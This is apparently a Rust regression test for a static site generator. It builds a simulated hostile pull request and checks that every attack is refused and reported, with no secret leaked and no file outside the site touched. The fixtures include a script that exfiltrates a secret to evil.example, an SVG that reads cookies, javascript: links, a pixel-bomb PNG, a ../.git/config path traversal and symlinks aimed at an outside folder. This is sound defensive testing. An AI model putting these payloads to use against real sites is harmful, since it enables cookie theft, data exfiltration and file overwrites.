//! One hostile pull request carrying every attack at once. Each attack has
//! its own regression test beside its fix (hostile*.rs, output_safety.rs);
//! this one checks that they hold together: one run reports every problem
//! at its place, nothing is published, nothing already published changes,
//! nothing outside the site is touched and no secret reaches the log.

use std::path::Path;
use std::time::{Duration, Instant};

use crate::harness::*;
use crate::hostile_data::{one_huge_cell, xlsx};
use crate::hostile_input::{png, write_bytes};
use crate::output_safety::{tree, victim};

const SECRET: &str = "SECRET-VALUE-7f3a";

/// The `(code, file:line)` of every error in a human-format log: the
/// place follows the message, as `--> file:line:column` when the line can
/// be shown, or as a note when the file was refused unread.
fn errors(stderr: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut code = None;
    for line in stderr.lines() {
        if let Some(rest) = line.strip_prefix("error[") {
            code = rest.split(']').next().map(str::to_string);
        } else if let Some(place) = line
            .trim_start()
            .strip_prefix("--> ")
            .or_else(|| line.trim_start().strip_prefix("= note: "))
            && let Some(code) = code.take()
        {
            // `file:line:column` → `file:line`
            let place = place.rsplit_once(':').map_or(place, |(p, _)| p);
            found.push((code, place.to_string()));
        }
    }
    found
}

/// The fixture site with a good build published, then a pull request
/// adding every kind of hostile content; returns the expected errors.
fn hostile_pull_request(site: &TestSite) -> Vec<(&'static str, &'static str)> {
    // Secrets a link or a table might leak: the repository's own settings.
    site.write(".git/config", &format!("[core]\n\ttoken = {SECRET}\n"));
    site.write(
        "content/sample/page.html",
        &format!("<script>fetch('https://evil.example/?{SECRET}')</script>"),
    );
    site.write(
        "content/sample/img/evil.svg",
        r#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect width="1" height="1"/></svg>"#,
    );
    // A 74-byte PNG declaring 2,147,483,647 pixels square.
    write_bytes(
        site,
        "content/sample/img/bomb.png",
        &png(2_147_483_647, 2_147_483_647, true),
    );
    // A workbook of a few hundred KB whose one cell is 256 MiB.
    write_bytes(site, "content/sample/data/book.xlsx", &xlsx(one_huge_cell));
    site.write(
        "content/sample/data/book.yaml",
        "caption: Book\nworkbook:\n  file: book.xlsx\n  sheet: Data\ncolumns:\n  - key: part\n",
    );
    site.write(
        "content/sample/data/git.yaml",
        "caption: Git\nfile: ../../../.git/config\ncolumns:\n  - key: part\n",
    );
    site.write(
        "content/sample/04-attack.md",
        "---\ntitle: Attack\n---\n\n\
         ![Chart](img/bomb.png)\n\n\
         [Notes](page.html)\n\n\
         ![Map](img/evil.svg)\n\n\
         [Settings](../../site.yaml)\n\n\
         [Click](javascript:alert(1))\n\n\
         A line break from Word\u{0B}inside a paragraph.\n\n\
         > [!TABLE] book\n\n\
         > [!TABLE] git\n",
    );
    let mut huge = String::from("---\ntitle: Huge\n---\n\n");
    while huge.len() <= 1 << 20 {
        huge.push_str("A paragraph of words that goes on and on.\n\n");
    }
    site.write("content/sample/05-huge.md", &huge);
    // A report folder taking the search page's address.
    let report = std::fs::read_to_string(site.dir.join("content/sample/report.yaml")).unwrap();
    site.write("content/search/report.yaml", &report);
    site.write("content/search/01-a.md", "---\ntitle: A\n---\n\nText.\n");
    // A NUL in the summary, which once reached the PDF engine.
    site.write(
        "content/sample/report.yaml",
        &report.replace("summary: Everything", "summary: Every\0thing"),
    );
    vec![
        ("image-too-large", "content/sample/04-attack.md:5"),
        ("unsafe-file", "content/sample/04-attack.md:7"),
        ("unsafe-file", "content/sample/04-attack.md:9"),
        ("outside-site", "content/sample/04-attack.md:11"),
        ("unsafe-link", "content/sample/04-attack.md:13"),
        ("control-character", "content/sample/04-attack.md:15"),
        ("bad-workbook", "content/sample/data/book.yaml:3"),
        ("outside-site", "content/sample/data/git.yaml:2"),
        ("chapter-too-large", "content/sample/05-huge.md:1"),
        ("reserved-slug", "content/search/report.yaml:1"),
        ("control-character", "content/sample/report.yaml:8"),
    ]
}

/// Every file under `dir` that mentions the secret.
fn leaks(dir: &Path) -> Vec<String> {
    snapshot(dir)
        .into_iter()
        .filter(|(_, bytes)| bytes.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()))
        .map(|(name, _)| name)
        .collect()
}

#[test]
fn hostile_pull_request_is_refused_whole_with_every_problem_at_its_place() {
    let site = TestSite::fixture("fixtures/full");
    let published = site.build().success().output;
    let before = snapshot(&published);
    let expected = hostile_pull_request(&site);

    for command in ["check", "build"] {
        let start = Instant::now();
        let run = site.run(&[command]);
        let took = start.elapsed();
        assert_eq!(run.code, 1, "`{command}`: {}", run.stderr);
        assert!(
            !run.stderr.contains("please report it") && !run.stderr.contains("panicked"),
            "`{command}` faulted:\n{}",
            run.stderr
        );
        let found = errors(&run.stderr);
        for (code, place) in &expected {
            assert!(
                found.iter().any(|(c, p)| c == code && p == place),
                "`{command}`: no {code} at {place}; found {found:?}\n{}",
                run.stderr
            );
        }
        assert!(
            !run.stdout.contains(SECRET) && !run.stderr.contains(SECRET),
            "`{command}` printed the secret:\n{}",
            run.stderr
        );
        assert!(took < Duration::from_secs(60), "`{command}` took {took:?}");
    }

    // What was published is exactly the last good build; nothing of the
    // pull request, and no staging or old folder, is left anywhere.
    assert_eq!(before, snapshot(&published), "the published site changed");
    assert!(leaks(&site.dir.join("output")).is_empty());
    let beside: Vec<_> = std::fs::read_dir(&site.dir)
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("rapport-") && !n.ends_with("rapport-lock"))
        .collect();
    assert!(beside.is_empty(), "left beside the output: {beside:?}");
}

#[cfg(unix)]
#[test]
fn hostile_pull_request_with_links_beside_the_output_touches_nothing_outside_the_site() {
    use std::os::unix::fs::symlink;

    let site = TestSite::fixture("fixtures/full");
    let published = site.build().success().output;
    let before = snapshot(&published);
    let victim = victim(&site);
    let victim_before = tree(&victim);
    let good_config = std::fs::read_to_string(site.dir.join("site.yaml")).unwrap();
    let untouched = |what: &str| {
        assert_eq!(victim_before, tree(&victim), "{what}: the victim changed");
        assert_eq!(before, snapshot(&published), "{what}: the site changed");
    };

    // Committed links under the names rapport gives its staging and old
    // folders, pointing at a folder outside the site.
    for name in [".output.rapport-old", ".output.rapport-staging"] {
        symlink(&victim, site.dir.join(name)).unwrap();
    }
    // With the content attacks and a script address for the site too.
    let expected = hostile_pull_request(&site);
    site.write(
        "site.yaml",
        &good_config.replace(
            "https://example.org/sub/path/",
            "\"javascript:alert(document.domain)//\"",
        ),
    );
    // The folder beside the output is checked first, before anything is
    // read: exit 2 for the links.
    let run = site.build();
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(
        run.stderr.contains("not a folder rapport made"),
        "{}",
        run.stderr
    );
    untouched("links beside the output");

    // An output folder that is the victim itself is not rapport's either.
    let run = site.run(&["build", "--output", victim.to_str().unwrap()]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("output-folder"), "{}", run.stderr);
    untouched("the victim as the output folder");

    // The links removed: the script address is refused.
    for name in [".output.rapport-old", ".output.rapport-staging"] {
        std::fs::remove_file(site.dir.join(name)).unwrap();
    }
    let run = site.build();
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(run.stderr.contains("bad-base-url"), "{}", run.stderr);
    untouched("a script base_url");

    // The settings put right: every content error, at its place.
    site.write("site.yaml", &good_config);
    let run = site.build();
    assert_eq!(run.code, 1, "{}", run.stderr);
    let found = errors(&run.stderr);
    for (code, place) in &expected {
        assert!(
            found.iter().any(|(c, p)| c == code && p == place),
            "no {code} at {place}; found {found:?}"
        );
    }
    untouched("hostile content");

    // The content put right too: the site builds.
    let report = std::fs::read_to_string(site.dir.join("content/sample/report.yaml")).unwrap();
    site.write("content/sample/report.yaml", &report.replace('\0', ""));
    for path in [
        "content/sample/04-attack.md",
        "content/sample/05-huge.md",
        "content/search",
        "content/sample/data",
        "content/sample/page.html",
        "content/sample/img/evil.svg",
        "content/sample/img/bomb.png",
    ] {
        let p = site.dir.join(path);
        if p.is_dir() {
            std::fs::remove_dir_all(p).unwrap();
        } else {
            std::fs::remove_file(p).unwrap();
        }
    }
    site.build().success();
    assert_eq!(
        victim_before,
        tree(&victim),
        "the last build changed the victim"
    );
}
